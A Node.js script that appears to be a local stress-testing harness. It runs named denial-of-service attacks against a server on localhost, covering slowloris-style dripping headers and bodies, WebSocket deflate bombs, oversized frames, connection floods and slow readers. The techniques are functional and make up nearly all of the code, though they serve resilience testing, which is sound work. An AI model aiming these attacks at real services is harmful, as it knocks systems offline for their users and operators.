// abuser.mjs -- one attacker on one address, in a process of its own: abuser.mjs ATTACK PORT SECONDS [NICE [ADDRESS [CORES]]].
// It takes CORES of processor time, no less and no more (else as much as it gets). Says one line of JSON in the end: what it got done, and how much of a core it took.
import crypto from 'node:crypto';
import net from 'node:net';
import os from 'node:os';
import zlib from 'node:zlib';

const [attack, port, seconds, nice = 0, localAddress = '127.0.0.9', cores = Infinity] = process.argv.slice(2);
os.setPriority(Number(nice));
const done = { attack, connected: 0, refused: 0, closed: 0, sent: 0, answers: 0 };
const end = performance.now() + seconds * 1000;
const sleep = (ms) => new Promise((settle) => setTimeout(settle, ms));
const taken = () => {
	const { user, system } = process.cpuUsage();
	return (user + system) / 1000 / performance.now();
};
// Wait until there is processor time left.
async function afford() {
	while (taken() > Number(cores) && performance.now() < end)
		await sleep(5);
}
async function burn(ms) {
	for (const from = performance.now(); performance.now() < from + ms;)
		;
	await sleep(0);
}
// What the attack does not take of it.
async function burnTheRest() {
	while (performance.now() < end) {
		await sleep(5);
		if (taken() < Number(cores))
			await burn(5);
	}
}

function connect(onData = () => {}) {
	const s = net.connect({ port, host: '127.0.0.1', localAddress });
	s.on('connect', () => { done.connected++; });
	s.on('data', (c) => { done.answers++; onData(c, s); });
	s.on('error', () => { done.refused++; });
	s.on('close', () => { done.closed++; s.gone = true; });
	return s;
}
// Write as fast as the peer takes it.
async function pour(s, make) {
	while (!s.gone && performance.now() < end) {
		await afford();
		const more = s.write(make());
		do
			await sleep(more ? 0 : 5);
		while (s.writableNeedDrain && !s.gone && performance.now() < end);
		done.sent++;
	}
}
// `n` connections; one that ends is replaced.
const keep = (n, one) => Promise.all(Array.from({ length: n }, async () => {
	while (performance.now() < end) {
		await afford();
		await one();
		await sleep(20);
	}
}));
const frame = (op, data, { fin = true, deflated = false, length = data.length } = {}) => {
	const h = Buffer.alloc(14);
	h[0] = (fin ? 0x80 : 0) | (deflated ? 0x40 : 0) | op;
	h[1] = 0x80 | 127;
	h.writeBigUInt64BE(BigInt(length), 2);		// masked with zeros
	return Buffer.concat([h, data]);
};
async function socket({ deflate = false } = {}) {
	const s = connect();
	s.write(`GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n` +
		`Sec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\n${deflate ? 'Sec-WebSocket-Extensions: permessage-deflate\r\n' : ''}\r\n`);
	await Promise.race([new Promise((settle) => s.once('data', settle)), sleep(2000)]);
	return s;
}
const squeeze = (text) => zlib.deflateRawSync(text, { finishFlush: zlib.constants.Z_SYNC_FLUSH }).subarray(0, -4);
const post = (path, body, length = body.length, type = 'application/json') =>
	`POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n${body}`;
const drip = (n, start, part) => keep(n, async () => {
	const s = connect();
	s.write(start);
	while (!s.gone && performance.now() < end) {
		await sleep(500);
		s.write(part);
		done.sent++;
	}
	s.destroy();
});

const attacks = {
	// Nothing is sent: what it costs that the attacker's process shares the machine.
	nothing: async () => {
		while (performance.now() < end) {
			await burn(10);
			await afford();
		}
	},
	sessions: () => keep(4, async () => pour(connect(), () => 'GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(50))),
	bombs: () => {
		const bomb = frame(1, squeeze(`42["nothing","${'0'.repeat(990000)}"]`), { deflated: true });
		return keep(1, async () => {
			const s = await socket({ deflate: true });
			s.write(frame(1, squeeze('40'), { deflated: true }));
			await pour(s, () => bomb);
		});
	},
	fragments: () => {
		const part = Buffer.alloc(999000, 48);
		return keep(64, async () => {
			const s = await socket();
			s.write(frame(1, part, { length: 999999 }));
			while (!s.gone && performance.now() < end)
				await sleep(100);
			s.destroy();
		});
	},
	cycles: () => {
		const cycle = Buffer.concat(Array.from({ length: 50 }, () => [frame(1, Buffer.from('40')), frame(1, Buffer.from('41'))]).flat());
		return keep(6, async () => pour(await socket(), () => cycle));
	},
	jobs: () => {
		const body = JSON.stringify({ productIds: Array.from({ length: 1000 }, (_, i) => `p${i}`), schedule: '* * * * *' });
		return keep(8, async () => pour(connect(), () => post('/api/kafka/analysis/multi-batch', body)));
	},
	bodies: () => keep(64, async () => pour(connect(), () => post('/api/v1/api-keys', ' '.repeat(1000000)))),
	'slow readers': () => keep(200, async () => {
		const s = connect();
		s.pause();
		s.write('GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(100));
		while (!s.gone && performance.now() < end)
			await sleep(100);
		s.destroy();
	}),
	'slow heads': () => drip(1000, 'GET / HTTP/1.1\r\nX: ', 'y'),
	'slow imports': () => drip(1000, post('/api/products/p1/reviews', `${JSON.stringify({ id: 'r1', text: 'good' })}\n`,
		1000000, 'application/x-ndjson'), ' '),
	// A WebSocket is opened, and left at once.
	handshakes: () => keep(16, async () => {
		while (performance.now() < end) {
			await afford();
			(await socket()).destroy();
		}
	}),
	'slow bodies': () => drip(1000, post('/api/analyze', '{', 100000), ' '),
};

if (Number(cores) < Infinity)
	burnTheRest();
await Promise.race([attacks[attack](), sleep(seconds * 1000 + 500)]);
console.log(JSON.stringify({ ...done, cores: Math.round(taken() * 100) / 100 }));
process.exit(0);
